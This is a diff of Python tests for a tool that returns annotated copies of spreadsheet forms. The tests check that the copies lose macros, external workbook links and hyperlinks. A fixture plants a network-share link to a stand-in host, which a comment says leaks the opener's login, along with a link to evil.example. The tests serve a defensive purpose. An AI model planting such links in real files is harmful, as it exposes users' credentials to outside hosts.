@@ -192,3 +192,91 @@ def test_files_without_findings_or_unreadable_get_no_copy(tmp_path: Path, pack):
                               item=InputItem("x.xlsx", tmp_path / "x.xlsx"))
     assert annotate_results([clean, broken], tmp_path / "out", [tmp_path / "in"], False, pack) == []
     assert not (tmp_path / "out").exists()
+
+
+# ---------------------------------------------------------------- what a copy must never carry
+
+SHARE = "file:///\\\\host\\share\\evil.xlsx"  # opening or updating it sends the clerk's login to host
+_EXTERNAL_LINK = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+                  b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+                  b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
+                  b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
+                  b"</sheetData></sheetDataSet></externalBook></externalLink>")
+_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def active_form(path: Path) -> Path:
+    """small_form's cells plus a link to a workbook on a network share (a formula into it, cached
+    42, and a defined name), cell hyperlinks to the share and to a web page, and a VBA project."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    vba = path.parent / "vbaProject.bin"
+    vba.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
+    raw = path.parent / f"_{path.stem}.xlsm"
+    wb = xlsxwriter.Workbook(str(raw))
+    ws = wb.add_worksheet("自评表")
+    ws.write("A3", "项目名称")
+    ws.write("B3", "农村公路养护")
+    ws.write_row("A5", ["年度资金总额", 100.0, 90.0])
+    ws.write_formula("D5", "=C5/B5", None, 0.9)
+    ws.write_formula("E5", "=[1]Sheet1!$A$1", None, 42)
+    ws.write_url("A7", "external:\\\\host\\share\\evil.xlsx", string="共享盘")
+    ws.write_url("A8", "https://evil.example/x", string="网页")
+    wb.define_name("外部金额", "=[1]Sheet1!$A$1")
+    wb.add_vba_project(str(vba))
+    wb.close()
+    vba.unlink()
+    with zipfile.ZipFile(raw) as zin:
+        parts = {n: zin.read(n) for n in zin.namelist()}
+    raw.unlink()
+    parts["xl/externalLinks/externalLink1.xml"] = _EXTERNAL_LINK
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{_RELS}/externalLinkPath" Target="{SHARE}" TargetMode="External"/>'
+        "</Relationships>").encode()
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>", f'<Relationship Id="rIdX1" Type="{_RELS}/externalLink" '
+        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
+        for name, data in parts.items():
+            zout.writestr(name, data)
+    return path
+
+
+def test_a_copy_carries_no_external_link_and_no_macro(tmp_path: Path, pack):
+    src = active_form(tmp_path / "收表" / "自评表.xlsm")
+    with zipfile.ZipFile(src) as z:  # the original really holds them
+        assert {"xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"} <= set(z.namelist())
+    items, _ = expand([tmp_path / "收表"])
+    out = tmp_path / "退回"
+    (outcome,) = annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
+    target = out / "自评表.xlsm.xlsx"  # no macro: an .xlsx, the original's name kept before it
+    assert outcome.target == str(target)
+    with zipfile.ZipFile(target) as z:
+        names = z.namelist()
+        everything = b"".join(z.read(n) for n in names)
+    assert not [n for n in names if "vba" in n.lower() or "externallink" in n.lower()], names
+    assert b"macroEnabled" not in everything and b"TargetMode=\"External\"" not in everything
+    assert b"host" not in everything and b"evil.example" not in everything and b"[1]" not in everything
+    wb = openpyxl.load_workbook(target)
+    form = wb["自评表"]
+    assert form["E5"].value == 42  # the formula into the other workbook: its saved result
+    assert form["D5"].value == "=C5/B5"  # other formulas kept
+    assert form["A7"].value == "共享盘" and form["A7"].hyperlink is None and form["A8"].hyperlink is None
+    assert "外部金额" not in wb.defined_names
+    note = wb[SHEET_TITLE]["A3"].value
+    assert "外部链接" in note and "宏" in note and "已删除" in note
+    assert form["D5"].fill.fgColor.rgb.endswith(RED)  # still annotated as usual
+
+
+def test_a_plain_copy_says_nothing_about_links_or_macros(tmp_path: Path, pack):
+    small_form(tmp_path / "收表" / "自评表.xlsx")
+    items, _ = expand([tmp_path / "收表"])
+    out = tmp_path / "退回"
+    annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
+    note = openpyxl.load_workbook(out / "自评表.xlsx")[SHEET_TITLE]["A3"].value
+    assert "外部链接" not in note and "宏" not in note
